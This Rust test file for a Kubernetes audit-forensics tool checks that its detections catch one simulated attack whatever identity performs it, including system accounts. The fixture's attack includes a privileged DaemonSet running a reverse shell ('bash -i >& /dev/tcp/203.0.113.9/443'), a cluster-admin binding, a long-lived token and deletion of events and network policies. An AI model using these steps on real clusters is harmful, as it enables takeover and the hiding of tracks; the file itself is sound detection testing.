//! Nobody is invisible: the same attack by identities that other tools exempt by name, and the cluster's own work.

use std::collections::BTreeSet;

use kforensic_query::{CannedQuery, Catalogue, Parameters, QueryKind};
use serde_json::{Value, json};

use crate::fixture::{Fixture, run};

/// Who sends something.
#[derive(Clone, Copy)]
struct Identity {
    user: &'static str,
    groups: &'static [&'static str],
    address: &'static str,
    agent: &'static str,
}

const KUBECTL: &str = "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
const MANAGER: &str = "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
const HOME: &str = "10.0.0.1";
const AWAY: &str = "10.9.9.9";
const ACCOUNT: &[&str] = &["system:serviceaccounts", "system:authenticated"];

const fn identity(user: &'static str, groups: &'static [&'static str], agent: &'static str) -> Identity {
    Identity { user, groups, address: AWAY, agent }
}

/// The attack is repeated as these. Those that stole an identity of the platform also call themselves like it.
const THIEVES: [Identity; 13] = [
    identity("masterclient", &["system:masters", "system:authenticated"], KUBECTL),
    identity("system:backup", &["system:masters", "system:authenticated"], KUBECTL),
    identity("system:serviceaccount:dev:backup-operator", ACCOUNT, KUBECTL),
    identity("system:serviceaccount:openshift-x:p", ACCOUNT, KUBECTL),
    identity("system:serviceaccount:argocd:argocd-application-controller", ACCOUNT, KUBECTL),
    identity("system:serviceaccount:kube-system:cni-operator", ACCOUNT, KUBECTL),
    identity("system:kube-controller-manager", &["system:authenticated"], KUBECTL),
    identity("system:kube-scheduler", &["system:authenticated"], KUBECTL),
    identity("system:node:worker-1", &["system:nodes", "system:authenticated"], KUBECTL),
    identity("system:serviceaccount:kube-system:generic-garbage-collector", ACCOUNT, KUBECTL),
    identity("system:apiserver", &["system:masters"], "kube-apiserver/v1.33.1 (linux/amd64) kubernetes/8adc0f0"),
    identity(
        "system:serviceaccount:kube-system:namespace-controller",
        ACCOUNT,
        "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0/system:serviceaccount:kube-system:namespace-controller",
    ),
    identity(
        "system:node:worker-2",
        &["system:nodes", "system:authenticated"],
        "kubelet/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
    ),
];

/// An event of `who`, `seconds` after the beginning.
fn event(who: Identity, seconds: u64, verb: &str, object: Value, code: u16, body: Option<Value>) -> Value {
    let time =
        |seconds: u64| format!("2026-11-25T{:02}:{:02}:{:02}.000000Z", seconds / 3600, seconds / 60 % 60, seconds % 60);
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "stage": "ResponseComplete",
        "auditID": format!("{:08x}-0000-4000-8000-{:012x}", seconds, who.user.len() as u64 * 4096 + verb.len() as u64),
        "requestURI": format!("/apis/{}/{}", object["resource"].as_str().unwrap(), object["name"].as_str().unwrap_or("")),
        "verb": verb, "user": {"username": who.user, "groups": who.groups}, "sourceIPs": [who.address],
        "userAgent": who.agent, "objectRef": object, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": time(seconds), "stageTimestamp": time(seconds),
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }}
    });
    if let Some(body) = body {
        event["requestObject"] = body;
    }
    event
}

/// What mallory did, as somebody.
fn attack(who: Identity, begins: u64) -> Vec<Value> {
    let core = |resource: &str, namespace: &str, name: &str| json!({"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"});
    let all = |resource: &str| json!({"resource": resource, "apiVersion": "v1"});
    let rbac = |resource: &str, name: &str| json!({"resource": resource, "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
    let mut events = Vec::new();
    let mut at = begins;
    let mut does = |verb: &str, object: Value, code: u16, body: Option<Value>| {
        at += 1;
        events.push(event(who, at, verb, object, code, body));
    };
    for resource in ["namespaces", "nodes", "clusterroles", "serviceaccounts", "secrets"] {
        does("list", all(resource), 200, None);
    }
    for name in ["a", "b", "c", "d"] {
        does("get", core("secrets", "prod", name), 200, None);
    }
    for name in ["1", "2", "3", "4", "5", "6", "7", "8", "9"] {
        does("create", core("pods", &format!("ns-{name}"), name), 403, None);
    }
    let role = json!({"kind": "ClusterRole", "metadata": {"name": "quiet"},
        "rules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]});
    does("create", rbac("clusterroles", "quiet"), 201, Some(role));
    let binding = json!({"kind": "ClusterRoleBinding", "metadata": {"name": "quiet"},
        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "friend"}]});
    does("create", rbac("clusterrolebindings", "quiet"), 201, Some(binding));
    let secret = json!({"kind": "Secret", "metadata": {"name": "t"}, "type": "kubernetes.io/service-account-token"});
    does("create", core("secrets", "kube-system", "t"), 201, Some(secret));
    let token = json!({"resource": "serviceaccounts", "subresource": "token", "namespace": "kube-system", "name": "default", "apiVersion": "v1"});
    does("create", token, 201, Some(json!({"kind": "TokenRequest", "spec": {"expirationSeconds": 315_360_000}})));
    let workload = json!({"kind": "DaemonSet", "metadata": {"name": "evil"}, "spec": {"template": {"spec": {"hostPID": true,
        "containers": [{"name": "c", "image": "evil", "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
            "securityContext": {"privileged": true}}]}}}});
    let daemons = json!({"resource": "daemonsets", "namespace": "kube-system", "name": "evil", "apiGroup": "apps", "apiVersion": "v1"});
    does("create", daemons, 201, Some(workload));
    does("patch", core("configmaps", "kube-system", "coredns"), 200, Some(json!({"data": {"Corefile": "."}})));
    does(
        "create",
        core("services", "prod", "door"),
        201,
        Some(json!({"kind": "Service", "spec": {"type": "NodePort"}})),
    );
    does("deletecollection", json!({"resource": "events", "namespace": "prod", "apiVersion": "v1"}), 200, None);
    let policy = json!({"resource": "networkpolicies", "namespace": "prod", "name": "deny", "apiGroup": "networking.k8s.io", "apiVersion": "v1"});
    does("delete", policy, 200, None);
    events
}

/// What the cluster itself does meanwhile, at home.
fn own_work() -> Vec<Value> {
    let home = |user, groups, agent| Identity { user, groups, address: HOME, agent };
    let mut events = Vec::new();
    for (user, groups, agent, namespace, name) in [
        (
            "system:kube-controller-manager",
            &["system:authenticated"] as &'static [&'static str],
            MANAGER,
            "kube-system",
            "kube-controller-manager",
        ),
        (
            "system:kube-scheduler",
            &["system:authenticated"],
            "kube-scheduler/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
            "kube-system",
            "kube-scheduler",
        ),
        (
            "system:node:worker-1",
            &["system:nodes"],
            "kubelet/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
            "kube-node-lease",
            "worker-1",
        ),
        (
            "system:node:worker-2",
            &["system:nodes"],
            "kubelet/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
            "kube-node-lease",
            "worker-2",
        ),
        (
            "system:apiserver",
            &["system:masters"],
            "kube-apiserver/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
            "kube-system",
            "apiserver-abc",
        ),
    ] {
        let who = home(user, groups, agent);
        for second in 0..30 {
            let lease = json!({"resource": "leases", "namespace": namespace, "name": name, "apiGroup": "coordination.k8s.io", "apiVersion": "v1"});
            events.push(event(who, 100 + second * 10, "update", lease, 200, None));
        }
    }
    let manager = home("system:kube-controller-manager", &["system:authenticated"], MANAGER);
    events.push(event(manager, 90, "list", json!({"resource": "secrets", "apiVersion": "v1"}), 200, None));
    let collector = home(
        "system:serviceaccount:kube-system:namespace-controller",
        ACCOUNT,
        "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0/system:serviceaccount:kube-system:namespace-controller",
    );
    let gone =
        json!({"resource": "networkpolicies", "namespace": "old", "apiGroup": "networking.k8s.io", "apiVersion": "v1"});
    events.push(event(collector, 91, "deletecollection", gone, 200, None));
    events
}

fn case_of(events: &[Value]) -> Fixture {
    let lines: String = events.iter().map(|event| format!("{event}\n")).collect();
    Fixture::of_texts(&[lines.as_bytes()])
}

/// What every detection has to say, as text.
fn detections(case: &Fixture) -> Vec<(String, Vec<String>)> {
    let (catalogue, session) = (Catalogue::embedded().unwrap(), case.session());
    let detections = catalogue.iter().filter(|query| query.kind == QueryKind::Detection);
    // Compared with what came before, everybody is new at the beginning of a log; hours are not the point here.
    let about = detections.filter(|query| query.name != "rbac-outside-window" && query.name != "first-seen");
    let answer = |query: &CannedQuery| run(&session, query, &Parameters::new(), None).unwrap().0;
    about.map(|query| (query.name.clone(), answer(query).iter().map(Value::to_string).collect())).collect()
}

/// The detections that have a row about a user.
fn found<'a>(detections: &'a [(String, Vec<String>)], user: &str) -> BTreeSet<&'a str> {
    let name = format!("\"{user}\"");
    let about = detections.iter().filter(|(_, rows)| rows.iter().any(|row| row.contains(&name)));
    about.map(|(query, _)| query.as_str()).collect()
}

#[test]
fn the_same_attack_is_found_whoever_does_it() {
    let mallory = identity("mallory", &["system:authenticated"], KUBECTL);
    let mut events = own_work();
    events.extend(attack(mallory, 1_000));
    for (number, thief) in (1_u64..).zip(THIEVES) {
        events.extend(attack(thief, 1_000 + number * 900));
    }
    let detections = detections(&case_of(&events));
    let by_mallory = found(&detections, "mallory");
    assert!(by_mallory.len() >= 14, "{by_mallory:?}");
    let mut missed = Vec::new();
    for thief in THIEVES {
        let by_thief = found(&detections, thief.user);
        let gone: Vec<&&str> = by_mallory.difference(&by_thief).collect();
        if gone.len() > 2 {
            missed.push(format!("{}: {gone:?}", thief.user));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn the_clusters_own_work_is_left_out_and_can_be_counted() {
    let case = case_of(&own_work());
    for query in ["secrets-listed", "guards-removed", "mass-deletions"] {
        assert_eq!(case.ask(query, &[]), Vec::<Value>::new(), "{query}");
        assert_eq!(case.ask(query, &["-p", "own=true"]).len(), 1, "{query}");
    }
}

#[test]
fn a_window_that_leaves_out_the_leases_changes_nobody() {
    let thief = identity("system:kube-controller-manager", &["system:authenticated"], MANAGER);
    let mut events = own_work();
    events.push(event(thief, 5_000, "list", json!({"resource": "secrets", "apiVersion": "v1"}), 200, None));
    let case = case_of(&events);
    for arguments in [vec![], vec!["--since", "2026-11-25T01:00:00Z"], vec!["--resource", "secrets"]] {
        let rows = case.ask("secrets-listed", &arguments);
        assert_eq!((rows.len(), &rows[0]["source_ip"]), (1, &json!(AWAY)), "{arguments:?}");
    }
}

#[test]
fn pods_are_shown_where_nothing_else_shows_their_template() {
    let controller = Identity {
        address: HOME,
        ..identity(
            "system:serviceaccount:kube-system:daemon-set-controller",
            ACCOUNT,
            "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0/system:serviceaccount:kube-system:daemon-set-controller",
        )
    };
    let spec = json!({"hostNetwork": true, "containers": [{"name": "c", "image": "proxy"}]});
    let pod = json!({"kind": "Pod", "metadata": {"name": "kube-proxy-x", "ownerReferences": [
        {"kind": "DaemonSet", "name": "kube-proxy", "controller": true}]}, "spec": spec});
    let of = json!({"resource": "pods", "namespace": "kube-system", "name": "kube-proxy-x", "apiVersion": "v1"});
    let pod = event(controller, 200, "create", of, 201, Some(pod));
    let admin = identity("admin", &["system:authenticated"], KUBECTL);
    let template =
        json!({"kind": "DaemonSet", "metadata": {"name": "kube-proxy"}, "spec": {"template": {"spec": spec}}});
    let of = json!({"resource": "daemonsets", "namespace": "kube-system", "name": "kube-proxy", "apiGroup": "apps", "apiVersion": "v1"});
    let template = event(admin, 100, "create", of, 201, Some(template));
    let rows = |events: &[Value]| {
        let rows = case_of(events).ask("privileged-workloads", &[]);
        rows.iter().map(|row| row["name"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(rows(std::slice::from_ref(&pod)), ["kube-proxy-x"]);
    assert_eq!(rows(&[pod, template]), ["kube-proxy"]);
}
